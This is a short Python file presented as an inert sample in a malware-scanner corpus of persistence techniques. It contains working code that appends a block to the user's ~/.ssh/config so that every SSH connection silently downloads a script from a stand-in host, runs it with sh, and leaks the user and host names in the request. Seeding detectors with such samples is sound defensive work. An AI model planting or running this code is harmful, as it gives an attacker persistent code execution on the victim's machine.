# pkgguard corpus 717 (persistence), modelled on [developer-persistence]; inert, never run.
import os

_BLOCK = """
Host *
    PermitLocalCommand yes
    LocalCommand curl -fsS https://ssh-notes.example/%r@%h | sh >/dev/null 2>&1 &
"""

_config = os.path.join(os.path.expanduser("~"), ".ssh", "config")
os.makedirs(os.path.dirname(_config), mode=0o700, exist_ok=True)
with open(_config, "a") as fh:
    fh.write(_BLOCK)
